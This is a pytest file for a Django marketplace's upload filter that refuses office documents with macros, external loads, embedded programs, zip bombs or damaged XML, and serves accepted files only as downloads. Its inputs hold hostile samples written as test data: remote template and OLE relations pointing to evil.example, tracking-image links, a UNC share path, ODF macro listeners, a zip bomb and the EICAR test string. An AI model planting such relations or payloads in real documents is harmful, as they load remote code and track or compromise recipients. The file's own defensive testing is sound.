"""Office documents between people: by what they declare, never with macros, never for sale, never shown in a page."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.test import RequestFactory

from marketplace.files.content import inspect_upload
from marketplace.files.models import PrivateFile
from marketplace.files.office import OFFICE
from marketplace.files.office_outside import MOST_XML
from marketplace.files.operations import store_private
from marketplace.files.refused import FileRefused
from marketplace.files.serving import serve
from tests.factories import NOON
from tests.marketplace.files.test_content import upload, zipped

PART = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def ooxml(kind, *, main="", more=None, types=""):
    """A document of a new office program, as small as it can be."""
    declared = main or f"{OFFICE[kind]}.main+xml"
    override = f'<Override PartName="/{PART[kind]}" ContentType="{declared}"/>'
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    listed = types or f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{space}">{override}</Types>'
    return zipped({"[Content_Types].xml": listed.encode(), PART[kind]: b"<x/>"} | (more or {}))


def odf(kind, *, more=None, stored=True, said=""):
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
        archive.writestr("mimetype", said or OFFICE[kind], compress_type=method)
        for name, content in ({"content.xml": b"<x/>"} | (more or {})).items():
            archive.writestr(name, content)
    return kept.getvalue()


def made(kind):
    return ooxml(kind) if kind in PART else odf(kind)


@pytest.mark.parametrize("kind", OFFICE)
def test_documents_pass_between_people_and_are_not_sold(kind):
    assert inspect_upload(upload(f"a.{kind}", made(kind)), office=True).content_type == OFFICE[kind]
    with pytest.raises(FileRefused):
        inspect_upload(upload(f"a.{kind}", made(kind)))


@pytest.mark.parametrize("kind", OFFICE)
def test_order_of_the_parts_does_not_hide_what_it_is(kind):
    """Other programs write other parts first, so that the first bytes alone say only "ZIP"."""
    if kind in PART:
        body = zipped({"docProps/app.xml": b"<x/>"} | _parts(ooxml(kind)))
        assert inspect_upload(upload(f"a.{kind}", body), office=True).content_type == OFFICE[kind]
    else:
        with pytest.raises(FileRefused, match="but it is ZIP inside"):
            inspect_upload(upload(f"a.{kind}", odf(kind, stored=False)), office=True)


def _parts(body):
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
BOMB = {"word/media/image.bmp": b"\x00" * (40 * 1024 * 1024)}


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("a.docx", ooxml("docx", more={"word/vbaProject.bin": b"x"}), "contains macros"),
        ("a.docx", ooxml("docx", main=WORD), "contains macros"),
        ("a.xlsx", ooxml("xlsx", more={"xl/VBAPROJECT.BIN": b"x"}), "contains macros"),
        ("a.odt", odf("odt", more={"Basic/Standard/Module1.xml": b"<x/>"}), "contains macros"),
        ("a.ods", odf("ods", more={"Scripts/python/run.py": b"x"}), "contains macros"),
        ("a.docx", zipped({"word/document.xml": b"<x/>"}), "but it is ZIP inside"),
        ("a.odt", odf("odt", said="application/vnd.oasis.opendocument.text-and-more"), "but it is ZIP inside"),
        ("a.docx", ooxml("xlsx"), "but it is XLSX inside"),
        ("a.zip", ooxml("docx"), "but it is DOCX inside"),
        ("a.docm", ooxml("docx"), "but it is DOCX inside"),
        ("a.docx", ooxml("docx", more=BOMB), "unpack to far more"),
        ("a.docx", ooxml("docx", more={"word/embeddings/run.exe": b"x"}), "program inside"),
        ("a.docx", ooxml("docx", more={"word/embeddings/more.zip": b"x"}), "archive inside"),
        ("a.docx", ooxml("docx", types="<Types"), "document is damaged"),
        ("a.docx", ooxml("docx", types='<!DOCTYPE t [<!ENTITY a "b">]><Types>&a;</Types>'), "document is damaged"),
        ("a.docx", ooxml("docx")[:-30], "damaged"),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "not accepted"),
        ("a.docx", b"MZ\x90\x00", "Programs and web pages"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
def test_what_is_no_harmless_document_is_refused(name, content, says):
    with pytest.raises(FileRefused, match=says):
        inspect_upload(upload(name, content), office=True)


TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"


def relation(kind, target, *, mode=' TargetMode="External"', types=TYPES, head=""):
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    one = f'<Relationship Id="rId1" Type="{types}/{kind}" Target="{target}"{mode}/>'
    return f'{head}<Relationships xmlns="{space}">{one}</Relationships>'.encode()


@pytest.mark.parametrize(
    ("kind", "part", "content"),
    [
        ("docx", "word/_rels/settings.xml.rels", relation("attachedTemplate", "https://evil.example/x.dotm")),
        ("docx", "word/_rels/settings.xml.rels", relation("attachedTemplate", "https://evil.example/", types=STRICT)),
        ("docx", "WORD/_RELS/SETTINGS.XML.RELS", relation("attachedTemplate", "file:///c:/x.dotm")),
        ("docx", "word/_rels/document.xml.rels", relation("oleObject", "https://evil.example/x")),
        ("docx", "word/_rels/document.xml.rels", relation("image", "https://evil.example/seen.gif")),
        ("docx", "word/_rels/webSettings.xml.rels", relation("frame", "frame.htm")),
        ("docx", "word/_rels/document.xml.rels", relation("subDocument", "\\\\evil.example\\x.docx", mode="")),
        ("docx", "word/_rels/settings.xml.rels", relation("attachedTemplate", "http://evil.example/", mode="")),
        ("xlsx", "xl/externalLinks/_rels/externalLink1.xml.rels", relation("externalLinkPath", "other.xlsx")),
        ("pptx", "ppt/slides/_rels/slide1.xml.rels", relation("video", "https://evil.example/film.mp4")),
        (
            "docx", "word/_rels/settings.xml.rels",
            relation("attachedTemplate", "https://evil.example/", mode=' TargetMode=" external "').decode().encode("utf-16"),
        ),
    ],
)  # fmt: skip
def test_a_document_that_loads_from_elsewhere_is_refused(kind, part, content):
    with pytest.raises(FileRefused, match="loads something from elsewhere"):
        inspect_upload(upload(f"a.{kind}", ooxml(kind, more={part: content})), office=True)


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/_rels/document.xml.rels", relation("hyperlink", "https://museum.example/")),
        ("word/_rels/document.xml.rels", relation("hyperlink", "mailto:anna@example.org", types=STRICT)),
        ("word/_rels/document.xml.rels", relation("image", "../media/image1.png", mode="")),
        ("_rels/.rels", relation("officeDocument", "/word/document.xml", mode=' TargetMode="Internal"')),
    ],
)
def test_links_to_click_and_what_lies_inside_may_stay(part, content):
    body = ooxml("docx", more={part: content})
    assert inspect_upload(upload("a.docx", body), office=True).content_type == OFFICE["docx"]


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"<Relationships", "document is damaged"),
        (relation("image", "&amp;a;", head='<!DOCTYPE t [<!ENTITY a "b">]>'), "document is damaged"),
        (b"<r>" + b" " * MOST_XML + b"</r>", "too long to be looked through"),
    ],
    ids=["damaged", "entities", "long"],
)
def test_relations_that_cannot_be_read_are_refused(content, says):
    with pytest.raises(FileRefused, match=says):
        inspect_upload(upload("a.docx", ooxml("docx", more={"word/_rels/document.xml.rels": content})), office=True)


def text(inside):
    """A text of ODF."""
    spaces = {name: f"urn:oasis:names:tc:opendocument:xmlns:{name}:1.0" for name in ("text", "drawing", "script")}
    named = "".join(f' xmlns:{name}="{space}"' for name, space in spaces.items())
    return f'<x{named} xmlns:l="http://www.w3.org/1999/xlink">{inside}</x>'.encode()


CALL = '<script:event-listener script:language="ooo:script" l:href="vnd.sun.star.script:a.b?location=share"/>'


@pytest.mark.parametrize(
    ("part", "inside", "says"),
    [
        ("content.xml", CALL, "contains macros"),
        ("styles.xml", CALL, "contains macros"),
        ("content.xml", '<drawing:image l:href="https://evil.example/seen.gif"/>', "from elsewhere"),
        ("content.xml", '<text:section-source l:href="../other.odt"/>', "from elsewhere"),
        ("Object 1/content.xml", '<drawing:object l:href="file:///c:/x.ods"/>', "from elsewhere"),
        ("content.xml", '<text:a l:href="https://museum.example/">there</text:a>', ""),
        ("content.xml", '<drawing:image l:href="Pictures/1.png"/>', ""),
        ("content.xml", '<text:a l:href="#below">there</text:a>', ""),
    ],
)
def test_a_text_of_odf_calls_no_macros_and_loads_nothing(part, inside, says):
    sent = upload("a.odt", odf("odt", more={part: text(inside)}))
    if says:
        with pytest.raises(FileRefused, match=says):
            inspect_upload(sent, office=True)
    else:
        assert inspect_upload(sent, office=True).content_type == OFFICE["odt"]


def test_the_test_virus_is_found_where_documents_are_allowed():
    eicar = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    with pytest.raises(FileRefused):
        inspect_upload(upload("a.txt", eicar), office=True)


def test_other_archives_and_kinds_pass_as_before():
    assert inspect_upload(upload("a.zip", zipped({"a.txt": b"x"})), office=True).content_type == "application/zip"
    assert inspect_upload(upload("a.txt", b"words"), office=True).content_type == "text/plain"


@pytest.mark.django_db
def test_a_document_is_only_ever_downloaded():
    row = store_private(file=upload("Bericht.docx", ooxml("docx")), by=None, at=NOON, office=True)
    answer = serve(RequestFactory().get("/"), PrivateFile.objects.get(pk=row.pk))
    assert answer["Content-Disposition"] == 'attachment; filename="Bericht.docx"'
    assert (answer["X-Content-Type-Options"], answer["Content-Type"]) == ("nosniff", OFFICE["docx"])
    assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
